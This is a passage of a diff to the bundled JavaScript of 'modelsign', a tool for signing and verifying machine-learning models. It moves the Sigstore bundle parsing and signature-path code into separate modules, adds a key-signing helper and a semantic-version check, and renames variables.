+    IN_TOTO_PAYLOAD_TYPE = "application/vnd.in-toto+json";
+  }
+});
+
+// src/oms/bundle.ts
+import { stat as stat2 } from "node:fs/promises";
+function buildBundle(input) {
+  const verificationMaterial = "publicKeyHint" in input.material ? { publicKey: { hint: input.material.publicKeyHint }, tlogEntries: [] } : { x509CertificateChain: { certificates: input.material.certificates.map((c) => ({ rawBytes: c.toString("base64") })) }, tlogEntries: [] };
+  return {
+    mediaType: BUNDLE_MEDIA_TYPE,
+    verificationMaterial,
+    dsseEnvelope: {
+      payload: input.payload.toString("base64"),
+      payloadType: IN_TOTO_PAYLOAD_TYPE,
+      signatures: [{ sig: input.signature.toString("base64"), keyid: "" }]
+    }
+  };
+}
+function serializeBundle(bundle) {
+  return JSON.stringify(bundle, null, 2) + "\n";
+}
+async function readBundleFile(file, maxBytes = MAX_BUNDLE_BYTES, opts = {}) {
+  try {
+    return await readRegularFile(file, maxBytes, opts.noFollow ? { noFollow: true } : {});
+  } catch (e) {
+    if (e instanceof NotRegularFile) {
+      const isDir = await stat2(file).then((st2) => st2.isDirectory(), () => false);
+      if (isDir) throw usage("SIG_UNREADABLE", `signature path is a directory: ${file}`);
+      throw reject("SIG_UNREADABLE", `signature is not a regular file: ${file}`);
+    }
+    if (e instanceof FileTooLarge) throw reject("SIG_TOO_LARGE", `signature file is larger than ${maxBytes} bytes: ${file}`);
+    const c = errnoCode(e);
+    if (c === "ENOENT") throw reject("SIG_MISSING", `signature file not found: ${file}`);
+    if (c === "ELOOP" && opts.noFollow) {
+      throw reject("SIG_UNREADABLE", `signature file is a symlink, not followed: ${file} (name the signature with --signature to use it)`);
+    }
+    throw reject("SIG_UNREADABLE", `cannot read signature file ${file}: ${c ?? String(e)}`);
+  }
+}
+function bad3(msg) {
+  throw reject("SIG_MALFORMED", `signature bundle is malformed: ${msg}`);
+}
+function parseBundle(bytes) {
+  if (bytes.length === 0) bad3("file is empty");
+  if (bytes.length > MAX_BUNDLE_BYTES) throw reject("SIG_TOO_LARGE", `signature bundle is larger than ${MAX_BUNDLE_BYTES} bytes`);
+  let text;
+  try {
+    text = new TextDecoder("utf-8", { fatal: true }).decode(bytes);
+  } catch {
+    bad3("not UTF-8");
+  }
+  const json = parseStrictJson(text, { what: "signature bundle", code: "SIG_MALFORMED" });
+  if (!isObject(json)) bad3("not a JSON object");
+  const mediaType = json.mediaType;
+  if (typeof mediaType !== "string" || !mediaType.startsWith("application/vnd.dev.sigstore.bundle")) bad3("missing or unknown mediaType");
+  const vm = json.verificationMaterial;
+  if (!isObject(vm)) bad3("verificationMaterial missing");
+  let material;
+  if (isObject(vm.publicKey)) {
+    const pk = vm.publicKey;
+    material = { kind: "publicKey" };
+    if (pk.hint !== void 0) {
+      if (typeof pk.hint !== "string") bad3("publicKey.hint must be a string");
+      material.hint = pk.hint;
+    }
+    if (pk.rawBytes !== void 0) {
+      if (typeof pk.rawBytes !== "string") bad3("publicKey.rawBytes must be a string");
+      material.rawBytes = decodeBase64(pk.rawBytes, "publicKey.rawBytes");
+    }
+    if (typeof pk.keyDetails === "string") material.keyDetails = pk.keyDetails;
+  } else if (isObject(vm.x509CertificateChain)) {
+    const certs = vm.x509CertificateChain.certificates;
+    if (!Array.isArray(certs) || certs.length === 0 || certs.length > 16) bad3("x509CertificateChain.certificates must hold 1 to 16 certificates");
+    material = {
+      kind: "x509CertificateChain",
+      certificates: certs.map((c, i) => {
+        if (!isObject(c) || typeof c.rawBytes !== "string") bad3(`certificate ${i} has no rawBytes`);
+        return decodeBase64(c.rawBytes, `certificate ${i}`);
+      })
+    };
+  } else if (isObject(vm.certificate)) {
+    if (typeof vm.certificate.rawBytes !== "string") bad3("certificate.rawBytes missing");
+    material = { kind: "certificate", certificate: decodeBase64(vm.certificate.rawBytes, "certificate") };
+  } else {
+    bad3("verificationMaterial has no publicKey, x509CertificateChain or certificate");
+  }
+  const env = json.dsseEnvelope;
+  if (!isObject(env)) {
+    if (json.messageSignature !== void 0) throw reject("UNSUPPORTED_FORMAT", "bundle holds a message signature, not a DSSE envelope: not a model signature");
+    bad3("dsseEnvelope missing");
+  }
+  if (typeof env.payloadType !== "string") bad3("dsseEnvelope.payloadType missing");
+  if (typeof env.payload !== "string" || env.payload.length === 0) bad3("dsseEnvelope.payload missing");
+  const payload = decodeBase64(env.payload, "dsseEnvelope.payload");
+  const sigs = env.signatures;
+  if (!Array.isArray(sigs) || sigs.length === 0) bad3("dsseEnvelope.signatures is empty");
+  if (sigs.length > 16) bad3("too many signatures");
+  const signatures = sigs.map((s3, i) => {
+    if (!isObject(s3) || typeof s3.sig !== "string" || s3.sig.length === 0) bad3(`signature ${i} has no sig`);
+    const keyid = s3.keyid;
+    if (keyid !== void 0 && keyid !== null && typeof keyid !== "string") bad3(`signature ${i} keyid must be a string or null`);
+    return { sig: decodeBase64(s3.sig, `signature ${i}`), keyid };
+  });
+  return { mediaType, material, payloadType: env.payloadType, payload, signatures, json, bytes };
+}
+var BUNDLE_MEDIA_TYPE, MAX_BUNDLE_BYTES;
+var init_bundle = __esm({
+  "src/oms/bundle.ts"() {
+    "use strict";
+    init_read_file();
+    init_errors();
+    init_base64();
+    init_strict_json();
+    init_dsse();
+    BUNDLE_MEDIA_TYPE = "application/vnd.dev.sigstore.bundle.v0.3+json";
+    MAX_BUNDLE_BYTES = 32 * 1024 * 1024;
+  }
+});
+
+// src/sign/signature-path.ts
+import path7 from "node:path";
+async function defaultSignaturePath(model) {
+  const { stat: stat8 } = await import("node:fs/promises");
+  try {
+    if ((await stat8(model)).isDirectory()) return path7.join(model, "model.sig");
+  } catch {
+  }
+  return `${model}.sig`;
+}
+var init_signature_path = __esm({
+  "src/sign/signature-path.ts"() {
+    "use strict";
+  }
+});
+
 // src/hashing/serialize.ts
 import { createHash as createHash3 } from "node:crypto";
 function planResources(files, method, shardSize) {
@@ -56625,15 +56930,15 @@ __export(archive_exports, {
   scanArchive: () => scanArchive
 });
 import { constants as constants3 } from "node:fs";
-import { open as open3, stat as stat2 } from "node:fs/promises";
-import path7 from "node:path";
+import { open as open3, stat as stat3 } from "node:fs/promises";
+import path8 from "node:path";
 function isArchivePath(p2) {
   return ARCHIVE_RE.test(p2);
 }
 async function archiveSourceFor(model) {
   if (!isArchivePath(model)) return void 0;
   try {
-    if (!(await stat2(model)).isFile()) return void 0;
+    if (!(await stat3(model)).isFile()) return void 0;
   } catch {
   }
   return (req) => scanArchive(model, req);
@@ -56690,7 +56995,7 @@ async function openArchive(file) {
   return { fh, size: st2.size };
 }
 async function scanPass(file, req, initial, maxEntries) {
-  const root = path7.resolve(file);
+  const root = path8.resolve(file);
   const { fh, size: archiveSize } = await openArchive(root);
   const ignorePaths = [...req.ignorePaths, EMBEDDED_SIGNATURE];
   const problems = [];
@@ -56762,9 +57067,9 @@ async function scanPass(file, req, initial, maxEntries) {
     }
     const cleaned = cleanName(raw, kind === "dir");
     decidePrefix(raw, cleaned, kind);
-    const why = cleaned === "" ? void 0 : unsafeNameReason(cleaned);
-    if (why) {
-      hostile("UNSAFE_NAME", raw, `unsafe name (${why})`);
+    const why2 = cleaned === "" ? void 0 : unsafeNameReason(cleaned);
+    if (why2) {
+      hostile("UNSAFE_NAME", raw, `unsafe name (${why2})`);
       entry.resume();
       return;
     }
@@ -56822,7 +57127,7 @@ async function scanPass(file, req, initial, maxEntries) {
       case "symlink": {
         entry.resume();
         const lp = entry.linkpath ?? "";
-        const resolved = lp.startsWith("/") ? void 0 : path7.posix.normalize(path7.posix.join(path7.posix.dirname(name2), lp));
+        const resolved = lp.startsWith("/") ? void 0 : path8.posix.normalize(path8.posix.join(path8.posix.dirname(name2), lp));
         if (resolved === void 0 || resolved === ".." || resolved.startsWith("../") || resolved === ".") {
           hostile("SYMLINK_OUTSIDE", raw, `symlink to ${JSON.stringify(lp)} points outside the model`);
           return;
@@ -56953,160 +57258,6 @@ var init_archive = __esm({
   }
 });
 
-// src/util/base64.ts
-function isStrictBase64(s3) {
-  const n = s3.length;
-  if (n % 4 !== 0) return false;
-  let end = n;
-  if (n > 0 && s3.charCodeAt(n - 1) === 61) end = s3.charCodeAt(n - 2) === 61 ? n - 2 : n - 1;
-  for (let i = 0; i < end; i++) {
-    const c = s3.charCodeAt(i);
-    const ok = c >= 65 && c <= 90 || c >= 97 && c <= 122 || c >= 48 && c <= 57 || c === 43 || c === 47;
-    if (!ok) return false;
-  }
-  return true;
-}
-function decodeBase64(s3, what, code = "SIG_MALFORMED") {
-  const clean5 = /\s/.test(s3) ? s3.replace(/\s+/g, "") : s3;
-  if (!isStrictBase64(clean5)) throw reject(code, `${what} is not valid base64`);
-  return Buffer.from(clean5, "base64");
-}
-var init_base64 = __esm({
-  "src/util/base64.ts"() {
-    "use strict";
-    init_errors();
-  }
-});
-
-// src/oms/dsse.ts
-function pae(payloadType, payload) {
-  const type = Buffer.from(payloadType, "utf8");
-  const head = Buffer.from(`DSSEv1 ${type.length} ${payloadType} ${payload.length} `, "utf8");
-  return Buffer.concat([head, payload]);
-}
-var IN_TOTO_PAYLOAD_TYPE;
-var init_dsse = __esm({
-  "src/oms/dsse.ts"() {
-    "use strict";
-    IN_TOTO_PAYLOAD_TYPE = "application/vnd.in-toto+json";
-  }
-});
-
-// src/oms/bundle.ts
-import { stat as stat3 } from "node:fs/promises";
-function buildBundle(input) {
-  const verificationMaterial = "publicKeyHint" in input.material ? { publicKey: { hint: input.material.publicKeyHint }, tlogEntries: [] } : { x509CertificateChain: { certificates: input.material.certificates.map((c) => ({ rawBytes: c.toString("base64") })) }, tlogEntries: [] };
-  return {
-    mediaType: BUNDLE_MEDIA_TYPE,
-    verificationMaterial,
-    dsseEnvelope: {
-      payload: input.payload.toString("base64"),
-      payloadType: IN_TOTO_PAYLOAD_TYPE,
-      signatures: [{ sig: input.signature.toString("base64"), keyid: "" }]
-    }
-  };
-}
-function serializeBundle(bundle) {
-  return JSON.stringify(bundle, null, 2) + "\n";
-}
-async function readBundleFile(file, maxBytes = MAX_BUNDLE_BYTES, opts = {}) {
-  try {
-    return await readRegularFile(file, maxBytes, opts.noFollow ? { noFollow: true } : {});
-  } catch (e) {
-    if (e instanceof NotRegularFile) {
-      const isDir = await stat3(file).then((st2) => st2.isDirectory(), () => false);
-      if (isDir) throw usage("SIG_UNREADABLE", `signature path is a directory: ${file}`);
-      throw reject("SIG_UNREADABLE", `signature is not a regular file: ${file}`);
-    }
-    if (e instanceof FileTooLarge) throw reject("SIG_TOO_LARGE", `signature file is larger than ${maxBytes} bytes: ${file}`);
-    const c = errnoCode(e);
-    if (c === "ENOENT") throw reject("SIG_MISSING", `signature file not found: ${file}`);
-    if (c === "ELOOP" && opts.noFollow) {
-      throw reject("SIG_UNREADABLE", `signature file is a symlink, not followed: ${file} (name the signature with --signature to use it)`);
-    }
-    throw reject("SIG_UNREADABLE", `cannot read signature file ${file}: ${c ?? String(e)}`);
-  }
-}
-function bad3(msg) {
-  throw reject("SIG_MALFORMED", `signature bundle is malformed: ${msg}`);
-}
-function parseBundle(bytes) {
-  if (bytes.length === 0) bad3("file is empty");
-  if (bytes.length > MAX_BUNDLE_BYTES) throw reject("SIG_TOO_LARGE", `signature bundle is larger than ${MAX_BUNDLE_BYTES} bytes`);
-  let text;
-  try {
-    text = new TextDecoder("utf-8", { fatal: true }).decode(bytes);
-  } catch {
-    bad3("not UTF-8");
-  }
-  const json = parseStrictJson(text, { what: "signature bundle", code: "SIG_MALFORMED" });
-  if (!isObject(json)) bad3("not a JSON object");
-  const mediaType = json.mediaType;
-  if (typeof mediaType !== "string" || !mediaType.startsWith("application/vnd.dev.sigstore.bundle")) bad3("missing or unknown mediaType");
-  const vm = json.verificationMaterial;
-  if (!isObject(vm)) bad3("verificationMaterial missing");
-  let material;
-  if (isObject(vm.publicKey)) {
-    const pk = vm.publicKey;
-    material = { kind: "publicKey" };
-    if (pk.hint !== void 0) {
-      if (typeof pk.hint !== "string") bad3("publicKey.hint must be a string");
-      material.hint = pk.hint;
-    }
-    if (pk.rawBytes !== void 0) {
-      if (typeof pk.rawBytes !== "string") bad3("publicKey.rawBytes must be a string");
-      material.rawBytes = decodeBase64(pk.rawBytes, "publicKey.rawBytes");
-    }
-    if (typeof pk.keyDetails === "string") material.keyDetails = pk.keyDetails;
-  } else if (isObject(vm.x509CertificateChain)) {
-    const certs = vm.x509CertificateChain.certificates;
-    if (!Array.isArray(certs) || certs.length === 0 || certs.length > 16) bad3("x509CertificateChain.certificates must hold 1 to 16 certificates");
-    material = {
-      kind: "x509CertificateChain",
-      certificates: certs.map((c, i) => {
-        if (!isObject(c) || typeof c.rawBytes !== "string") bad3(`certificate ${i} has no rawBytes`);
-        return decodeBase64(c.rawBytes, `certificate ${i}`);
-      })
-    };
-  } else if (isObject(vm.certificate)) {
-    if (typeof vm.certificate.rawBytes !== "string") bad3("certificate.rawBytes missing");
-    material = { kind: "certificate", certificate: decodeBase64(vm.certificate.rawBytes, "certificate") };
-  } else {
-    bad3("verificationMaterial has no publicKey, x509CertificateChain or certificate");
-  }
-  const env = json.dsseEnvelope;
-  if (!isObject(env)) {
-    if (json.messageSignature !== void 0) throw reject("UNSUPPORTED_FORMAT", "bundle holds a message signature, not a DSSE envelope: not a model signature");
-    bad3("dsseEnvelope missing");
-  }
-  if (typeof env.payloadType !== "string") bad3("dsseEnvelope.payloadType missing");
-  if (typeof env.payload !== "string" || env.payload.length === 0) bad3("dsseEnvelope.payload missing");
-  const payload = decodeBase64(env.payload, "dsseEnvelope.payload");
-  const sigs = env.signatures;
-  if (!Array.isArray(sigs) || sigs.length === 0) bad3("dsseEnvelope.signatures is empty");
-  if (sigs.length > 16) bad3("too many signatures");
-  const signatures = sigs.map((s3, i) => {
-    if (!isObject(s3) || typeof s3.sig !== "string" || s3.sig.length === 0) bad3(`signature ${i} has no sig`);
-    const keyid = s3.keyid;
-    if (keyid !== void 0 && keyid !== null && typeof keyid !== "string") bad3(`signature ${i} keyid must be a string or null`);
-    return { sig: decodeBase64(s3.sig, `signature ${i}`), keyid };
-  });
-  return { mediaType, material, payloadType: env.payloadType, payload, signatures, json, bytes };
-}
-var BUNDLE_MEDIA_TYPE, MAX_BUNDLE_BYTES;
-var init_bundle = __esm({
-  "src/oms/bundle.ts"() {
-    "use strict";
-    init_read_file();
-    init_errors();
-    init_base64();
-    init_strict_json();
-    init_dsse();
-    BUNDLE_MEDIA_TYPE = "application/vnd.dev.sigstore.bundle.v0.3+json";
-    MAX_BUNDLE_BYTES = 32 * 1024 * 1024;
-  }
-});
-
 // src/verify/names.ts
 function checkResourceNames(names) {
   if (names.length === 1 && names[0] === ".") return [];
@@ -57115,9 +57266,9 @@ function checkResourceNames(names) {
   const nfc = /* @__PURE__ */ new Map();
   const folded = /* @__PURE__ */ new Map();
   for (const name2 of names) {
-    const why = unsafeNameReason(name2);
-    if (why) {
-      failures.push({ code: "UNSAFE_NAME", path: name2, message: `unsafe resource name in signature: ${why}` });
+    const why2 = unsafeNameReason(name2);
+    if (why2) {
+      failures.push({ code: "UNSAFE_NAME", path: name2, message: `unsafe resource name in signature: ${why2}` });
       continue;
     }
     if (seen.has(name2)) {
@@ -57149,175 +57300,8 @@ var init_names = __esm({
   }
 });
 
-// src/verify/types.ts
-var NEED_IDENTITY;
-var init_types3 = __esm({
-  "src/verify/types.ts"() {
-    "use strict";
-    NEED_IDENTITY = "give the identity you trust: --identity ID (or --identity-regexp RE) with --identity-provider ISSUER; without one, anyone Fulcio certified would be accepted";
-  }
-});
-
-// src/verify/pipeline.ts
-var pipeline_exports = {};
-__export(pipeline_exports, {
-  checkTrust: () => checkTrust,
-  defaultSignaturePath: () => defaultSignaturePath,
-  verifyModel: () => verifyModel
-});
-import path8 from "node:path";
-async function defaultSignaturePath(model) {
-  const { stat: stat8 } = await import("node:fs/promises");
-  try {
-    if ((await stat8(model)).isDirectory()) return path8.join(model, "model.sig");
-  } catch {
-  }
-  return `${model}.sig`;
-}
-function refuseKeylessWithoutIdentity(bundle, trust) {
-  if (bundle.material.kind === "publicKey") return;
-  const vm = bundle.json.verificationMaterial;
-  if ((vm?.tlogEntries?.length ?? 0) === 0) return;
-  if (trust.some((t) => t.kind === "sigstore" || t.kind === "certificate")) return;
-  throw usage("MISSING_IDENTITY", `the signature is a Sigstore keyless signature: ${NEED_IDENTITY}`);
-}
-async function checkTrust(bundle, trust) {
-  if (bundle.payloadType !== IN_TOTO_PAYLOAD_TYPE) {
-    throw reject("SIG_MALFORMED", `DSSE payloadType is ${JSON.stringify(bundle.payloadType)}, expected ${IN_TOTO_PAYLOAD_TYPE}`);
-  }
-  if (trust.length === 0) throw new ModelsignError("NO_TRUST", "no key, certificate chain or identity to verify against", { kind: "usage" });
-  const bytes = pae(bundle.payloadType, bundle.payload);
-  const errors = [];
-  for (const t of trust) {
-    try {
-      return await t.verify(bundle, bytes);
-    } catch (e) {
-      if (e instanceof ModelsignError && e.kind === "reject") errors.push(e);
-      else throw e;
-    }
-  }
-  if (errors.length === 1) throw errors[0];
-  const first = errors[0];
-  throw reject(first.code, `no trusted authority accepts the signature: ${errors.map((e) => e.message).join("; ")}`);
-}
-async function verifyModel(opts) {
-  const signature = opts.signature ?? await defaultSignaturePath(opts.model);
-  const result = {
-    verified: false,
-    model: opts.model,
-    signature,
-    rootDigest: void 0,
-    subjectName: void 0,
-    signer: void 0,
-    signerInfo: void 0,
-    metadata: void 0,
-    serialization: void 0,
-    filesChecked: 0,
-    bytesHashed: 0,
-    failures: [],
-    extra: {}
-  };
-  try {
-    const bundle = parseBundle(await readBundleFile(signature, void 0, { noFollow: opts.signature === void 0 }));
-    refuseKeylessWithoutIdentity(bundle, opts.trust);
-    const signer = await checkTrust(bundle, opts.trust);
-    result.signerInfo = signer;
-    result.signer = signer.description;
-    const statement = parseStatement(bundle.payload);
-    result.subjectName = statement.subjectName;
-    result.metadata = statement.metadata;
-    result.serialization = statement.serialization;
-    result.rootDigest = statement.rootDigest;
-    const nameFailures = checkResourceNames(statement.resources.map((r) => r.name));
-    if (nameFailures.length > 0) {
-      result.failures.push(...nameFailures);
-      return result;
-    }
-    if (statement.rootDigest !== void 0) {
-      const computed = rootDigest(statement.resources);
-      if (computed !== statement.rootDigest) {
-        result.failures.push({ code: "ROOT_DIGEST_MISMATCH", message: "signed root digest does not match the signed resource list" });
-        return result;
-      }
-    } else {
-      result.rootDigest = rootDigest(statement.resources);
-    }
-    const files = await checkFiles({
-      model: opts.model,
-      signaturePath: signature,
-      serialization: statement.serialization,
-      resources: statement.resources,
-      ignorePaths: opts.ignorePaths ?? [],
-      ignoreUnsignedFiles: opts.ignoreUnsignedFiles ?? false,
-      ...opts.engine ? { engine: opts.engine } : {},
-      ...opts.listing ? { listing: opts.listing } : {},
-      ...await modelSource(opts, statement.resources, statement.serialization.method)
-    });
-    result.failures.push(...files.failures);
-    result.filesChecked = files.filesChecked;
-    result.bytesHashed = files.bytesHashed;
-    if (result.failures.length === 0) {
-      const ctx = { options: opts, bundle, statement, signer, result };
-      for (const stage of opts.stages ?? []) result.failures.push(...await stage(ctx));
-    }
-  } catch (e) {
-    if (e instanceof ModelsignError && e.kind === "reject") result.failures.push(toFailure(e));
-    else throw e;
-  }
-  result.verified = result.failures.length === 0;
-  return result;
-}
-async function modelSource(opts, resources, method) {
-  if (opts.listing) return {};
-  const base2 = path8.basename(opts.model);
-  const fileOf = (n) => method === "shards" ? parseShardName(n)?.path ?? n : n;
-  if (!opts.source && resources.length > 0 && resources.every((r) => fileOf(r.name) === "." || fileOf(r.name) === base2)) return {};
-  const { archiveSourceFor: archiveSourceFor2 } = await Promise.resolve().then(() => (init_archive(), archive_exports));
-  const source = opts.source ?? await archiveSourceFor2(opts.model);
-  return source ? { source } : {};
-}
-var init_pipeline = __esm({
-  "src/verify/pipeline.ts"() {
-    "use strict";
-    init_errors();
-    init_serialize();
-    init_bundle();
-    init_dsse();
-    init_statement();
-    init_legacy();
-    init_files();
-    init_names();
-    init_types3();
-  }
-});
-
-// src/version.ts
-var TOOL_VERSION;
-var init_version = __esm({
-  "src/version.ts"() {
-    "use strict";
-    TOOL_VERSION = "0.1.0";
-  }
-});
-
-// src/sign/sign.ts
-var sign_exports = {};
-__export(sign_exports, {
-  checkVersion: () => checkVersion,
-  defaultModelName: () => defaultModelName,
-  digestModel: () => digestModel,
-  keySigner: () => keySigner,
-  signModel: () => signModel,
-  writeAtomic: () => writeAtomic
-});
-import { rename, writeFile as writeFile2, unlink } from "node:fs/promises";
+// src/sign/digest.ts
 import path9 from "node:path";
-function keySigner(key, publicKey) {
-  return async (payload) => {
-    const signature = signBytes(key, pae(IN_TOTO_PAYLOAD_TYPE, payload));
-    return buildBundle({ payload, signature, material: { publicKeyHint: keyHint(publicKey) } });
-  };
-}
 async function digestModel(opts) {
   const hash = opts.hash ?? "sha256";
   const sigPath = opts.signature ?? await defaultSignaturePath(opts.model);
@@ -57356,11 +57340,62 @@ async function digestModel(opts) {
   serialization.ignore_paths = ignorePaths;
   return { listing, serialization, resources, rootDigest: rootDigest(resources) };
 }
+var init_digest = __esm({
+  "src/sign/digest.ts"() {
+    "use strict";
+    init_errors();
+    init_algorithms2();
+    init_enumerate();
+    init_paths();
+    init_serialize();
+    init_archive();
+    init_source();
+    init_names();
+    init_signature_path();
+  }
+});
+
+// src/version.ts
+var TOOL_VERSION;
+var init_version = __esm({
+  "src/version.ts"() {
+    "use strict";
+    TOOL_VERSION = "0.1.0";
+  }
+});
+
+// src/sign/sign.ts
+var sign_exports = {};
+__export(sign_exports, {
+  checkVersion: () => checkVersion,
+  defaultModelName: () => defaultModelName,
+  digestModel: () => digestModel,
+  keySigner: () => keySigner,
+  signModel: () => signModel,
+  signWithKey: () => signWithKey,
+  writeAtomic: () => writeAtomic
+});
+import { rename, writeFile as writeFile2, unlink } from "node:fs/promises";
+import path10 from "node:path";
+function keySigner(key, publicKey) {
+  return async (payload) => {
+    const signature = signBytes(key, pae(IN_TOTO_PAYLOAD_TYPE, payload));
+    return buildBundle({ payload, signature, material: { publicKeyHint: keyHint(publicKey) } });
+  };
+}
+async function signWithKey(opts) {
+  await checkVersion(opts.version);
+  const { loadPrivateKey: loadPrivateKey2 } = await Promise.resolve().then(() => (init_keyfile(), keyfile_exports));
+  const { createPublicKey: createPublicKey2 } = await import("node:crypto");
+  const key = typeof opts.key === "string" ? await loadPrivateKey2(opts.key) : opts.key;
+  return signModel({ ...opts, signer: keySigner(key, createPublicKey2(key)) });
+}
 function defaultModelName(model) {
-  const base2 = path9.basename(path9.resolve(model));
+  const base2 = path10.basename(path10.resolve(model));
   return base2.replace(/\.(tar\.gz|tgz|tar)$/i, "") || "model";
 }
 async function checkVersion(version) {
+  if (version.length <= 256 && PLAIN_SEMVER.test(version) && version.split(/[.-]/, 3).every((n) => Number(n) <= Number.MAX_SAFE_INTEGER)) return version;
   const semver9 = (await Promise.resolve().then(() => __toESM(require_semver2(), 1))).default;
   if (!semver9.valid(version)) throw usage("BAD_VERSION", `--version must be a semantic version like 1.2.0 (got "${version}")`);
   return semver9.clean(version) ?? version;
@@ -57393,7 +57428,7 @@ async function signModel(opts) {
   };
 }
 async function writeAtomic(file, data) {
-  const tmp = path9.join(path9.dirname(file), `.${path9.basename(file)}.${process.pid}.${Date.now()}.tmp`);
+  const tmp = path10.join(path10.dirname(file), `.${path10.basename(file)}.${process.pid}.${Date.now()}.tmp`);
   try {
     await writeFile2(tmp, data, { flag: "wx", mode: 420 });
     await rename(tmp, file);
@@ -57402,38 +57437,36 @@ async function writeAtomic(file, data) {
     throw usage("WRITE_FAILED", `cannot write ${file}: ${errnoCode(e) ?? String(e)}`);
   }
 }
+var ID, PLAIN_SEMVER;
 var init_sign = __esm({
   "src/sign/sign.ts"() {
     "use strict";
     init_errors();
-    init_algorithms2();
-    init_enumerate();
-    init_paths();
-    init_serialize();
-    init_archive();
-    init_source();
     init_algorithms();
     init_bundle();
     init_dsse();
     init_statement();
-    init_pipeline();
-    init_names();
+    init_signature_path();
+    init_digest();
     init_version();
+    init_digest();
+    ID = "(?:0|[1-9]\\d*|\\d*[a-zA-Z-][0-9a-zA-Z-]*)";
+    PLAIN_SEMVER = new RegExp(`^(?:0|[1-9]\\d*)\\.(?:0|[1-9]\\d*)\\.(?:0|[1-9]\\d*)(?:-${ID}(?:\\.${ID})*)?$`);
   }
 });
 
 // src/sigstore/trusted-root.ts
-import { createRequire as createRequire3 } from "node:module";
+import { createRequire as createRequire4 } from "node:module";
 import { mkdir, readFile as readFile2, rm as rm2, stat as stat4 } from "node:fs/promises";
-import os4 from "node:os";
-import path10 from "node:path";
+import os5 from "node:os";
+import path11 from "node:path";
 function cacheDir() {
   if (process.env.MODELSIGN_CACHE_DIR) return process.env.MODELSIGN_CACHE_DIR;
-  const base2 = process.env.XDG_CACHE_HOME || path10.join(os4.homedir(), ".cache");
-  return path10.join(base2, "modelsign");
+  const base2 = process.env.XDG_CACHE_HOME || path11.join(os5.homedir(), ".cache");
+  return path11.join(base2, "modelsign");
 }
 function cachedTrustedRootPath() {
-  return path10.join(cacheDir(), "trusted_root.json");
+  return path11.join(cacheDir(), "trusted_root.json");
 }
 async function parseTrustedRoot(text, source) {
   const [{ TrustedRoot }, { toTrustMaterial }] = await Promise.all([Promise.resolve().then(() => __toESM(require_dist3(), 1)), Promise.resolve().then(() => __toESM(require_dist4(), 1))]);
@@ -57470,7 +57503,7 @@ async function readBounded(file, what) {
   return buf.toString("utf8");
 }
 function shippedSnapshot() {
-  const require3 = createRequire3(import.meta.url);
+  const require3 = createRequire4(import.meta.url);
   const seeds = require3("@sigstore/tuf/seeds.json");
   const target = seeds[PUBLIC_GOOD_TUF_MIRROR]?.targets?.["trusted_root.json"];
   if (!target) throw new ModelsignError("TRUSTED_ROOT_MISSING", "the installed @sigstore/tuf carries no trusted_root.json seed", { kind: "internal" });
@@ -57492,7 +57525,7 @@ async function loadTrustedRoot(file) {
 async function updateTrustedRoot(opts) {
   const mirror = opts.mirror ?? PUBLIC_GOOD_TUF_MIRROR;
   const out2 = opts.out ?? cachedTrustedRootPath();
-  const tufCache = path10.join(cacheDir(), "tuf");
+  const tufCache = path11.join(cacheDir(), "tuf");
   await mkdir(tufCache, { recursive: true }).catch((e) => {
     throw usage("WRITE_FAILED", `cannot create ${tufCache}: ${errnoCode(e) ?? String(e)}`);
   });
@@ -57514,7 +57547,7 @@ async function updateTrustedRoot(opts) {
     throw new ModelsignError("TUF_UPDATE_FAILED", `cannot refresh the trusted root from ${mirror} (no network?): ${cause.split("\n")[0]}; the root in use is unchanged`, { kind: "reject" });
   }
   const root = await parseTrustedRoot(text, `TUF ${mirror}`);
-  await mkdir(path10.dirname(out2), { recursive: true }).catch(() => void 0);
+  await mkdir(path11.dirname(out2), { recursive: true }).catch(() => void 0);
   const { writeAtomic: writeAtomic2 } = await Promise.resolve().then(() => (init_sign(), sign_exports));
   await writeAtomic2(out2, text.endsWith("\n") ? text : `${text}
 `);
@@ -58207,13 +58240,13 @@ function origin(s3) {
 function licenseFailure(s3, raw, blockers, purpose) {
   const denied2 = blockers.filter((b2) => b2.reason === "denied");
   const code = denied2.length > 0 ? "POLICY_LICENSE_DENIED" : blockers.every((b2) => b2.reason === "unknown") ? "POLICY_LICENSE_UNKNOWN" : "POLICY_LICENSE_NOT_ALLOWED";
-  const why = (b2) => b2.reason === "denied" ? "is denied" : b2.reason === "unknown" ? "is not a known license and not allowed by name" : "is not allowed";
+  const why2 = (b2) => b2.reason === "denied" ? "is denied" : b2.reason === "unknown" ? "is not a known license and not allowed by name" : "is not allowed";
   if (s3.license === void 0 || s3.license.trim() === "") {
     const who = s3.kind === "model" ? `the model ${id(s3)}` : origin(s3).replace("brought in by ", "");
     return { code, message: `${who} records no license, and "none" is not allowed for ${purpose} by the policy` };
   }
   const whole = blockers.length === 1 && displayId(blockers[0].term).toLowerCase() === raw.toLowerCase();
-  const detail = whole ? why(blockers[0]) : `is not acceptable: ${blockers.map((b2) => `${clean4(displayId(b2.term))} ${why(b2)}`).join(", ")}`;
+  const detail = whole ? why2(blockers[0]) : `is not acceptable: ${blockers.map((b2) => `${clean4(displayId(b2.term))} ${why2(b2)}`).join(", ")}`;
   return { code, message: `license "${clean4(raw, 200)}" ${origin(s3)} ${detail} for ${purpose} by the policy` };
 }
 function policyStage(policy, purpose) {
@@ -58311,7 +58344,7 @@ var init_formats = __esm({
 // src/lineage/store.ts
 import { createHash as createHash4 } from "node:crypto";
 import { lstat as lstat3, mkdir as mkdir2, opendir, stat as stat5 } from "node:fs/promises";
-import path12 from "node:path";
+import path13 from "node:path";
 function bundleDigestOf(bytes) {
   return `sha256:${createHash4("sha256").update(bytes).digest("hex")}`;
 }
@@ -58350,7 +58383,7 @@ async function recordBundle(dir, meta, bytes) {
   const base2 = `${safeName(meta.name)}@${safeName(meta.version)}.${hex}`;
   const digest = bundleDigestOf(bytes);
   for (const name2 of [`${base2}.sig`, `${base2}.${digest.slice(7, 23)}.sig`]) {
-    const file = path12.join(dir, name2);
+    const file = path13.join(dir, name2);
     let st2;
     try {
       st2 = await lstat3(file);
@@ -58422,7 +58455,7 @@ var init_store = __esm({
         const names = idx.get(bareHex(rootDigest2)) ?? [];
         const out2 = [];
         for (const name2 of names) {
-          const file = path12.join(this.dir, name2);
+          const file = path13.join(this.dir, name2);
           const bytes = await readStoreFile(file);
           if (!bytes) continue;
           this.bytesRead += bytes.length;
@@ -58432,6 +58465,142 @@ var init_store = __esm({
         return out2;
       }
     };
+  }
+});
+
+// src/verify/types.ts
+var NEED_IDENTITY;
+var init_types3 = __esm({
+  "src/verify/types.ts"() {
+    "use strict";
